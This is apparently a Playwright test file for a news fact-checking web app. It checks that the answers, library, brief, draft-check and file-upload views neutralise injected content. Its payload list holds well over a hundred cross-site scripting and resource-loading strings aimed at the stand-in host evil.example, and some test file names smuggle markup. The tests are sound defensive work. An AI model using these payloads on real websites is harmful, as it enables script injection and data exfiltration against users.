"""150 scripts and exfiltrations in every text that the page shows: none runs, none asks anybody.

What is asked for outside is only an article's own address, on a click.
"""

from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from playwright.sync_api import Page, Request, Route, expect

from rag.answering import Rag
from rag.errors import PresscheckError
from rag.fakes import HashEmbedder
from rag.index import open_index
from rag.library import Library
from rag.settings import Settings
from rag.types import CheckedSentence, Conflict, ConflictValue, Verdict
from ui.engine import Engine

At = Callable[..., Any]

EVIL = "https://evil.example"
RUN = "window.pcRan=1;alert(1)"
OWN = "https://news.example/bridge"
ADDRESSES = (OWN, "https://example.org/harbour-bridge", f"{EVIL}/bare")
"""Of articles: a payload that is an address is one as well where it is given as an article's."""

_HANDLERS = "onerror onload onclick onfocus onmouseover ontoggle onanimationstart onpointerenter"
_TAGS = "img svg body iframe input video audio details"
_ELEMENTS = (
    "<script>{run}</script>",
    "<script src={evil}/a.js></script>",
    "<img src={evil}/a.png>",
    "<img srcset='{evil}/a.png 1x'>",
    "<picture><source srcset={evil}/a.png><img></picture>",
    "<iframe src={evil}></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.pcRan=1&lt;/script&gt;'></iframe>",
    "<object data={evil}></object>",
    "<embed src={evil}>",
    "<link rel=stylesheet href={evil}/a.css>",
    "<link rel=prefetch href={evil}/a>",
    "<style>@import '{evil}/a.css';</style>",
    "<style>body{{background:url({evil}/a.png)}}</style>",
    "<p style='background:url({evil}/a.png)'>x</p>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<base href={evil}>",
    "<form action={evil}><button>Send</button></form>",
    "<input type=image src={evil}/a.png>",
    "<video src={evil}/a.mp4 autoplay></video>",
    "<video poster={evil}/a.png></video>",
    "<audio src={evil}/a.mp3 autoplay></audio>",
    "<track src={evil}/a.vtt>",
    "<svg><image href={evil}/a.png></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><use href='{evil}/a.svg#x'></svg>",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<table background={evil}/a.png>",
    "<body background={evil}/a.png>",
    "<a href='javascript:{run}'>x</a>",
    "<a href=' java\tscript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href={evil} ping={evil}/ping>x</a>",
    "<a href={evil}>Open the article's page</a>",
    "<button formaction={evil}>x</button>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<textarea></textarea><img src=x onerror={run}>",
    "</textarea><script>{run}</script>",
    "</pre><img src=x onerror={run}>",
    "</title><script>{run}</script>",
    "</style><img src={evil}/a.png>",
    "</script><script>{run}</script>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    "` onerror={run} `",
    "![x]({evil}/a.png)",
    "![x][1]\n\n[1]: {evil}/a.png",
    "[x](javascript:{run})",
    "[x]({evil})",
    "<{evil}>",
    "{evil}/bare",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{{{value}}}}{{{{@html '<img src=x onerror={run}>'}}}}",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cimg src=x onerror={run}\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",  # noqa: RUF001
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<ScRiPt>{run}</sCrIpT>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror\n=\n{run}>",
    "\u202e<img src=x onerror={run}>\u202c",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "$$\\includegraphics{{{evil}/a.png}}$$",
    "```html\n<script>{run}</script>\n```",
    "<pre><code><img src=x onerror={run}></code></pre>",
    "<dialog open><img src=x onerror={run}></dialog>",
    "<marquee onstart={run}>x</marquee>",
    "<portal src={evil}>",
    "<fencedframe src={evil}>",
    "<keygen autofocus onfocus={run}>",
    "<isindex action={evil}>",
    "<x onclick={run} tabindex=1>x</x>",
    "<xss style='animation-name:pc-pulse' onanimationstart={run}>x</xss>",
)
PAYLOADS = [part.format(evil=EVIL, run=RUN) for part in _ELEMENTS] + [
    f"<{tag} src=x {handler}={RUN} autofocus open>"
    for tag in _TAGS.split()
    for handler in _HANDLERS.split()
]
BRIDGE = "The harbour bridge in Osby will cost 41 million crowns, says Mara Lind of Norland"


def test_there_are_enough() -> None:
    assert len(set(PAYLOADS)) >= 150


class Watched:
    """A page whose requests to others are noted and go nowhere."""

    def __init__(self, reader: SimpleNamespace) -> None:
        self.reader, self.page = reader, reader.page
        self.outside: list[str] = []
        self.page.context.route(lambda url: not url.startswith(reader.address), self._note)

    def _note(self, route: Route, request: Request) -> None:
        if request.url.startswith(("http:", "https:")):
            self.outside.append(request.url)
        route.abort()

    def quiet(self, where: str) -> None:
        """Nothing ran and nobody was asked; nothing of a payload is an element, and no link leads
        elsewhere than to the page itself or the article's own address."""
        assert self.page.evaluate("window.pcRan") is None, where
        assert (self.reader.dialogs, self.outside) == ([], []), where
        links = self.page.eval_on_selector_all("a[href]", "all => all.map((a) => a.href)")
        inside = (self.reader.address, *ADDRESSES)
        assert [link for link in links if not link.startswith(inside)] == [], where
        strange = "iframe, object, embed, base, meta[http-equiv=refresh], [src*='evil.example']"
        assert (
            self.page.locator(f"#pc-main :is({strange}), #pc-masthead :is({strange})").count() == 0
        )
        given = "[onerror],[onload],[onclick],[onfocus],[onmouseover],[ontoggle],[onstart]"
        assert self.page.locator(f"#pc-main :is({given})").count() == 0, where

    def click_links(self, where: str) -> None:
        """Each link, as somebody without suspicion would; what opens is the article's own."""
        page: Page = self.page
        links = page.locator("#pc-main a[href]:visible, #pc-main .pc-group a[href]")
        for number in range(min(links.count(), 12)):
            links.nth(number).dispatch_event("click")
        page.wait_for_timeout(200)
        assert {one.rstrip("/") for one in self.outside} <= set(ADDRESSES), where
        self.outside.clear()
        for other in page.context.pages:
            if other is not page:
                other.close()


def test_in_answers_as_they_grow_and_afterwards(
    at: At, settings: Settings, make: SimpleNamespace, shelf: SimpleNamespace
) -> None:
    groups = [PAYLOADS[n : n + 30] for n in range(0, len(PAYLOADS), 30)]
    scripts: dict[str, list[object]] = {}
    for number, group in enumerate(groups):
        text = f"{BRIDGE}. " + " ".join(group).replace("\n", " ")
        article = make.article(
            text, group[0], publisher=group[1], url=group[2], origin=group[3],
            disclosures=(group[4], group[5]),
        )  # fmt: skip
        shelf.put(article)
        cited = make.cite(1, article, text)
        verdicts = (Verdict.VERIFIED, Verdict.WEAK, Verdict.REMOVED)
        sentences = [
            CheckedSentence(one, verdicts[n % 3], (1,), one) for n, one in enumerate(group)
        ]
        conflict = Conflict(group[6], tuple(ConflictValue(one, (1,)) for one in group[7:9]))
        question = f"{number} {group[9]}".replace("\n", " ")
        answer = make.answer(
            question, sentences, [cited], conflicts=(conflict,), missing=group[10], note=group[11],
            writer=f"openai:{group[12]}", standalone_question=group[13],
        )  # fmt: skip
        scripts[question] = make.events(answer)
    failing = f"fails {PAYLOADS[2]}"
    scripts[failing] = [PresscheckError(PAYLOADS[0], where=PAYLOADS[2], next=PAYLOADS[3])]
    rag = make.rag(shelf.library, scripts)
    watched = Watched(at(Engine(settings, build=lambda _: rag)))
    for number, question in enumerate(scripts, start=1):
        watched.reader.ask(question)
        end = "failed" if question == failing else "answered"
        expect(watched.reader.turn(number)).to_have_attribute("data-end", end)
        watched.quiet(question)
    watched.click_links("answers")
    watched.page.reload()
    watched.page.wait_for_selector(".pc-welcome, .pc-turn")
    watched.quiet("history")


def test_in_library_brief_check_and_files(
    at: At, settings: Settings, make: SimpleNamespace, tmp_path: Path
) -> None:
    def build(settings: Settings) -> Rag:
        library = Library.open(settings.library, create=True)
        for number, payload in enumerate(PAYLOADS):
            text = f"{BRIDGE} on day {number} {payload}."
            article = make.article(
                text, payload, publisher=payload, origin=payload,
                url=OWN if number % 2 else payload, disclosures=(payload,),
            )  # fmt: skip
            make.put(library, article)
        index = open_index(library, exact_scan_below=settings.exact_scan_below)
        return Rag(library, index, HashEmbedder(), None, settings)

    watched = Watched(at(Engine(settings, build=build)))
    page = watched.page
    expect(page.locator(".pc-teaser, #pc-brief .pc-brief-sum").first).to_be_attached()
    watched.reader.show("brief")
    expect(page.locator("#pc-brief .pc-exports, #pc-brief .pc-notice").first).to_be_attached(
        timeout=30_000
    )
    watched.quiet("brief")
    watched.click_links("brief")
    watched.reader.show("brief")
    page.locator("#pc-topic input, #pc-topic textarea").fill(PAYLOADS[2])
    page.locator("#pc-make-brief").click()
    expect(page.locator("#pc-make-brief")).to_be_visible(timeout=30_000)
    watched.quiet("topic")
    watched.reader.show("draft")
    draft = "\n\n".join(f"{BRIDGE} on day {n} {one}." for n, one in enumerate(PAYLOADS[:40]))
    page.locator("#pc-draft-text textarea").fill(draft)
    page.locator("#pc-check").click()
    expect(page.locator("#pc-draft-checked .pc-exports")).to_be_attached(timeout=60_000)
    watched.quiet("draft")
    watched.click_links("draft")
    bad = tmp_path / "<img src=x onerror=alert(1)>.exe"
    bad.write_text(PAYLOADS[0])
    good = tmp_path / "<svg onload=alert(1)>.txt"
    good.write_text(f"{PAYLOADS[2]}\n\n{BRIDGE}. {PAYLOADS[0]}")
    watched.reader.show("draft")
    page.set_input_files("#pc-draft-file input[type=file]", str(good))
    expect(page.locator("#pc-draft-checked .pc-exports")).to_be_attached(timeout=30_000)
    watched.quiet("draft file")
    watched.reader.show("library")
    expect(page.locator("#pc-view-library")).to_contain_text("evil.example")
    watched.quiet("library")
    page.locator("#pc-files input[type=file]").set_input_files([str(bad), str(good)])
    expect(page.locator("#pc-results")).to_contain_text("rejected", timeout=30_000)
    watched.quiet("upload")
    watched.click_links("library")
